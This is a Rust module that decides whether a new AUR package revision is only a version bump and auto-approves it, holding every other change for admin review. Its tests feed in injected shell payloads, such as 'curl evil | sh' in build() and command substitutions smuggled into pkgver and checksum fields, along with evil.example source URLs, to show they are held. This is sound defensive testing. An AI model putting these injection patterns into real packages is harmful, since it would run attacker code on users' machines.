//! The approval classifier: does a new revision of an AUR package only bump its version?
//!
//! [`classify`] compares every file of the last approved revision with the new one. The change
//! is **auto-approved** only when the file set is the same, no file other than `PKGBUILD` and
//! `.SRCINFO` changed, and within those two every changed line is one of:
//! - `pkgver` / `pkgrel` set to a new plain literal (no `$`, quotes around one word at most),
//! - a checksum array (`md5sums`, `sha1sums`, `sha224sums`, `sha256sums`, `sha384sums`,
//!   `sha512sums`, `b2sums`, `cksums`, each also with an `_<arch>` suffix) of plain
//!   alphanumeric words,
//! - a `source` array (or `source_<arch>`) whose entries are the old entries with the old
//!   `pkgver` text replaced by the new one (a hard-coded version in a URL).
//!
//! Anything else — a changed `build()`/`package()`/`prepare()` line, a new or removed line, a
//! new `source` entry, `depends`, `install`, an added/changed/removed file — is **held** with a
//! reason per finding. The PKGBUILD is compared unit by unit as [`super::pkgbuild`] reads it
//! (top-level assignments, multi-line arrays, every other line verbatim); what that lexer does
//! not understand is an opaque line, so a misparse can only hold a change, never approve one.
//! `.SRCINFO` is compared line by line as `key = value` pairs.

use std::collections::BTreeMap;

use super::pkgbuild::{literal_pkgver, units, Unit, Word};

/// File path in the package's git tree → contents.
pub type Files = BTreeMap<String, Vec<u8>>;

/// The outcome of [`classify`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Verdict {
    /// Only version, checksums and version-substituted sources changed.
    Auto,
    /// Needs an admin; one human-readable reason per finding.
    Held(Vec<String>),
}

/// Compare the approved revision's files with the new revision's.
pub fn classify(old: &Files, new: &Files) -> Verdict {
    let mut reasons = Vec::new();
    for path in new.keys().filter(|p| !old.contains_key(*p)) {
        reasons.push(format!("new file `{path}`"));
    }
    for path in old.keys().filter(|p| !new.contains_key(*p)) {
        reasons.push(format!("removed file `{path}`"));
    }
    for (path, new_bytes) in new {
        let Some(old_bytes) = old.get(path) else {
            continue;
        };
        if old_bytes == new_bytes {
            continue;
        }
        let (Ok(old_text), Ok(new_text)) = (
            std::str::from_utf8(old_bytes),
            std::str::from_utf8(new_bytes),
        ) else {
            reasons.push(format!("changed file `{path}` (not text)"));
            continue;
        };
        match path.as_str() {
            "PKGBUILD" => compare_pkgbuild(old_text, new_text, &mut reasons),
            ".SRCINFO" => compare_srcinfo(old_text, new_text, &mut reasons),
            _ => reasons.push(format!("changed file `{path}`")),
        }
    }
    if reasons.is_empty() {
        Verdict::Auto
    } else {
        Verdict::Held(reasons)
    }
}

/// A checksum array name, with an optional `_<arch>` suffix.
fn is_checksum_name(name: &str) -> bool {
    const BASES: [&str; 8] = [
        "md5sums",
        "sha1sums",
        "sha224sums",
        "sha256sums",
        "sha384sums",
        "sha512sums",
        "b2sums",
        "cksums",
    ];
    BASES.iter().any(|b| {
        name == *b
            || name
                .strip_prefix(b)
                .and_then(|s| s.strip_prefix('_'))
                .is_some_and(|arch| {
                    !arch.is_empty() && arch.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                })
    })
}

/// A source array name, with an optional `_<arch>` suffix.
fn is_source_name(name: &str) -> bool {
    name == "source"
        || name.strip_prefix("source_").is_some_and(|arch| {
            !arch.is_empty() && arch.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        })
}

/// A plain pkgver: what makepkg accepts, without anything a shell would expand.
fn valid_pkgver(v: &str) -> bool {
    !v.is_empty()
        && v.chars()
            .all(|c| c.is_ascii_alphanumeric() || "._+~".contains(c))
}

/// A plain pkgrel: `1`, `2.1`.
fn valid_pkgrel(v: &str) -> bool {
    let mut parts = v.split('.');
    let ok =
        |p: Option<&str>| p.is_some_and(|p| !p.is_empty() && p.bytes().all(|b| b.is_ascii_digit()));
    ok(parts.next()) && parts.next().is_none_or(|p| ok(Some(p))) && parts.next().is_none()
}

/// A checksum value: hex, decimal (cksums) or `SKIP`.
fn valid_checksum(v: &str) -> bool {
    !v.is_empty() && v.chars().all(|c| c.is_ascii_alphanumeric())
}

/// The old → new pkgver pair used for source substitution (only when both are plain).
fn version_pair(old: Option<String>, new: Option<String>) -> Option<(String, String)> {
    match (old, new) {
        (Some(o), Some(n)) if valid_pkgver(&o) && valid_pkgver(&n) && o != n => Some((o, n)),
        _ => None,
    }
}

/// Is `new` the old source entry with the version replaced?
fn source_substituted(old: &str, new: &str, versions: Option<&(String, String)>) -> bool {
    old == new || versions.is_some_and(|(o, n)| old.replace(o.as_str(), n) == new)
}

fn short(text: &str) -> String {
    let line = text.lines().next().unwrap_or("").trim();
    if line.chars().count() > 80 {
        format!("{}…", line.chars().take(80).collect::<String>())
    } else {
        line.to_string()
    }
}

fn compare_pkgbuild(old: &str, new: &str, reasons: &mut Vec<String>) {
    let (old_units, new_units) = (units(old), units(new));
    if old_units.len() != new_units.len() {
        let first = old_units
            .iter()
            .zip(&new_units)
            .find(|(a, b)| a.text().trim_end() != b.text().trim_end())
            .map(|(_, b)| format!(" (first difference: `{}`)", short(b.text())))
            .unwrap_or_default();
        reasons.push(format!(
            "PKGBUILD: lines added or removed ({} → {} units){first}",
            old_units.len(),
            new_units.len()
        ));
        return;
    }
    let versions = version_pair(literal_pkgver(&old_units), literal_pkgver(&new_units));
    for (a, b) in old_units.iter().zip(&new_units) {
        if a.text().trim_end() == b.text().trim_end() {
            continue;
        }
        let allowed = match (a, b) {
            (
                Unit::Assign {
                    name: n1,
                    array: a1,
                    words: w1,
                    ..
                },
                Unit::Assign {
                    name: n2,
                    array: a2,
                    words: w2,
                    ..
                },
            ) if n1 == n2 && a1 == a2 => allowed_change(n1, *a1, w1, w2, versions.as_ref()),
            _ => false,
        };
        if !allowed {
            let what = match b {
                Unit::Assign { name, .. } => format!("`{name}` changed"),
                Unit::Line(l) => format!("line changed: `{}`", short(l)),
            };
            reasons.push(format!("PKGBUILD: {what}"));
        }
    }
}

/// May variable `name` change from `old` to `new` words without review?
fn allowed_change(
    name: &str,
    array: bool,
    old: &[Word],
    new: &[Word],
    versions: Option<&(String, String)>,
) -> bool {
    let literal = |w: &Word, check: fn(&str) -> bool| w.literal.as_deref().is_some_and(check);
    match name {
        "pkgver" if !array => new.len() == 1 && literal(&new[0], valid_pkgver),
        "pkgrel" if !array => new.len() == 1 && literal(&new[0], valid_pkgrel),
        n if is_checksum_name(n) => new.iter().all(|w| literal(w, valid_checksum)),
        n if is_source_name(n) => {
            old.len() == new.len()
                && old
                    .iter()
                    .zip(new)
                    .all(|(o, n)| source_substituted(&o.raw, &n.raw, versions))
        }
        _ => false,
    }
}

/// `.SRCINFO` lines as (key, value); other lines as (line, "").
fn srcinfo_lines(text: &str) -> Vec<(String, String)> {
    text.lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| match l.split_once(" = ") {
            Some((k, v)) => (k.trim().to_string(), v.trim().to_string()),
            None => (l.trim().to_string(), String::new()),
        })
        .collect()
}

fn compare_srcinfo(old: &str, new: &str, reasons: &mut Vec<String>) {
    let (old_lines, new_lines) = (srcinfo_lines(old), srcinfo_lines(new));
    if old_lines.len() != new_lines.len() {
        reasons.push(format!(
            ".SRCINFO: lines added or removed ({} → {})",
            old_lines.len(),
            new_lines.len()
        ));
        return;
    }
    let pkgver = |lines: &[(String, String)]| {
        lines
            .iter()
            .find(|(k, _)| k == "pkgver")
            .map(|(_, v)| v.clone())
    };
    let versions = version_pair(pkgver(&old_lines), pkgver(&new_lines));
    for ((k1, v1), (k2, v2)) in old_lines.iter().zip(&new_lines) {
        if k1 == k2 && v1 == v2 {
            continue;
        }
        let allowed = k1 == k2
            && match k1.as_str() {
                "pkgver" => valid_pkgver(v2),
                "pkgrel" => valid_pkgrel(v2),
                k if is_checksum_name(k) => valid_checksum(v2),
                k if is_source_name(k) => source_substituted(v1, v2, versions.as_ref()),
                _ => false,
            };
        if !allowed {
            reasons.push(format!(".SRCINFO: `{k2}` changed"));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const PKGBUILD: &str = r#"# Maintainer: someone
pkgname=hello
pkgver=1.2.3
pkgrel=1
pkgdesc="A test package"
arch=('x86_64' 'aarch64')
url="https://example.org"
license=('MIT')
depends=('glibc')
source=("https://example.org/hello-$pkgver.tar.gz"
        "https://example.org/static/hello-1.2.3-extra.patch")
sha256sums=('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'
            'bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb')
b2sums_x86_64=('cccc')

build() {
  cd "hello-$pkgver"
  make
}

package() {
  cd "hello-$pkgver"
  make DESTDIR="$pkgdir" install
}
"#;

    const SRCINFO: &str = "pkgbase = hello\n\tpkgdesc = A test package\n\tpkgver = 1.2.3\n\tpkgrel = 1\n\tarch = x86_64\n\tdepends = glibc\n\tsource = https://example.org/hello-1.2.3.tar.gz\n\tsource = https://example.org/static/hello-1.2.3-extra.patch\n\tsha256sums = aaaa\n\tsha256sums = bbbb\n\npkgname = hello\n";

    fn files(pkgbuild: &str, srcinfo: &str) -> Files {
        let mut f = Files::new();
        f.insert("PKGBUILD".into(), pkgbuild.as_bytes().to_vec());
        f.insert(".SRCINFO".into(), srcinfo.as_bytes().to_vec());
        f
    }

    fn held(old: &Files, new: &Files) -> Vec<String> {
        match classify(old, new) {
            Verdict::Held(r) => r,
            Verdict::Auto => panic!("expected held"),
        }
    }

    #[test]
    fn identical_is_auto() {
        let f = files(PKGBUILD, SRCINFO);
        assert_eq!(classify(&f, &f), Verdict::Auto);
    }

    #[test]
    fn pure_bump_is_auto() {
        let new_pkgbuild = PKGBUILD
            .replace("pkgver=1.2.3", "pkgver=1.2.4")
            .replace("pkgrel=1", "pkgrel=2")
            .replace("hello-1.2.3-extra", "hello-1.2.4-extra")
            .replace(&"a".repeat(64), &"0".repeat(64))
            .replace(&"b".repeat(64), &"1".repeat(64))
            .replace("('cccc')", "('dddd')");
        let new_srcinfo = SRCINFO
            .replace("1.2.3", "1.2.4")
            .replace("pkgrel = 1", "pkgrel = 2")
            .replace("aaaa", "0000")
            .replace("bbbb", "1111");
        let old = files(PKGBUILD, SRCINFO);
        let new = files(&new_pkgbuild, &new_srcinfo);
        assert_eq!(classify(&old, &new), Verdict::Auto);
        // Only pkgrel: auto too.
        let rel = files(&PKGBUILD.replace("pkgrel=1", "pkgrel=3"), SRCINFO);
        assert_eq!(classify(&old, &rel), Verdict::Auto);
    }

    #[test]
    fn changed_build_is_held() {
        let old = files(PKGBUILD, SRCINFO);
        let new = files(
            &PKGBUILD.replace("  make\n", "  make\n  curl evil | sh\n"),
            SRCINFO,
        );
        let r = held(&old, &new);
        assert!(r.iter().any(|r| r.contains("PKGBUILD")), "{r:?}");
        let new = files(&PKGBUILD.replace("  make\n", "  make -j1\n"), SRCINFO);
        let r = held(&old, &new);
        assert!(r.iter().any(|r| r.contains("make -j1")), "{r:?}");
    }

    #[test]
    fn new_source_entry_is_held() {
        let old = files(PKGBUILD, SRCINFO);
        let new = files(
            &PKGBUILD.replace(
                "-extra.patch\")",
                "-extra.patch\"\n        \"https://evil.example/x.patch\")",
            ),
            SRCINFO,
        );
        assert!(held(&old, &new).iter().any(|r| r.contains("source")));
        // A source URL changed to another host (not a version substitution).
        let new = files(
            &PKGBUILD.replace(
                "https://example.org/hello-$pkgver",
                "https://evil.example/hello-$pkgver",
            ),
            SRCINFO,
        );
        assert!(held(&old, &new).iter().any(|r| r.contains("`source`")));
    }

    #[test]
    fn new_file_is_held() {
        let old = files(PKGBUILD, SRCINFO);
        let mut new = old.clone();
        new.insert("hello.install".into(), b"post_install() { :; }\n".to_vec());
        assert!(held(&old, &new)
            .iter()
            .any(|r| r.contains("new file `hello.install`")));
        let mut removed = old.clone();
        removed.remove(".SRCINFO");
        assert!(held(&old, &removed)
            .iter()
            .any(|r| r.contains("removed file")));
        let mut patch_old = old.clone();
        patch_old.insert("fix.patch".into(), b"a\n".to_vec());
        let mut patch_new = old.clone();
        patch_new.insert("fix.patch".into(), b"b\n".to_vec());
        assert!(held(&patch_old, &patch_new)
            .iter()
            .any(|r| r.contains("changed file `fix.patch`")));
    }

    #[test]
    fn changed_depends_is_held() {
        let old = files(PKGBUILD, SRCINFO);
        let new = files(
            &PKGBUILD.replace("depends=('glibc')", "depends=('glibc' 'evil')"),
            &SRCINFO.replace("depends = glibc\n", "depends = glibc\n\tdepends = evil\n"),
        );
        let r = held(&old, &new);
        assert!(r.iter().any(|r| r.contains("`depends`")), "{r:?}");
        assert!(r.iter().any(|r| r.contains(".SRCINFO")), "{r:?}");
        // install= added on an existing line's place is held too.
        let new = files(
            &PKGBUILD.replace("license=('MIT')", "install=hello.install"),
            SRCINFO,
        );
        assert!(!held(&old, &new).is_empty());
    }

    #[test]
    fn expansions_in_allowed_variables_are_held() {
        let old = files(PKGBUILD, SRCINFO);
        for evil in [
            "pkgver=$(curl evil|sh)",
            "pkgver=1.2.4; curl evil",
            "pkgver=1.2.4 curl",
            "pkgver=\"$(id)\"",
            "pkgver=`id`",
            "pkgver=1.2.4\\",
            "pkgver=${x:=1}",
        ] {
            let new = files(&PKGBUILD.replace("pkgver=1.2.3", evil), SRCINFO);
            assert!(
                matches!(classify(&old, &new), Verdict::Held(_)),
                "{evil} must be held"
            );
        }
        for evil in [
            "sha256sums=('$(id)'",
            "sha256sums=(\"`id`\"",
            "sha256sums=('aa') ; curl evil #",
            "sha256sums=(<(id)",
        ] {
            let new = files(&PKGBUILD.replace("sha256sums=(", evil), SRCINFO);
            assert!(
                matches!(classify(&old, &new), Verdict::Held(_)),
                "{evil} must be held"
            );
        }
    }

    #[test]
    fn assignments_inside_functions_are_plain_lines() {
        let old = "pkgver=1\nbuild() {\n  sha256sums=(a)\n}\n";
        let new = "pkgver=1\nbuild() {\n  sha256sums=(b)\n}\n";
        let mut o = Files::new();
        o.insert("PKGBUILD".into(), old.as_bytes().to_vec());
        let mut n = Files::new();
        n.insert("PKGBUILD".into(), new.as_bytes().to_vec());
        assert!(matches!(classify(&o, &n), Verdict::Held(_)));
    }

    #[test]
    fn value_checks() {
        assert!(
            valid_pkgrel("2")
                && valid_pkgrel("2.1")
                && !valid_pkgrel("2.")
                && !valid_pkgrel("1.2.3")
        );
        assert!(is_checksum_name("sha256sums_x86_64") && !is_checksum_name("sha256sumsx"));
    }
}
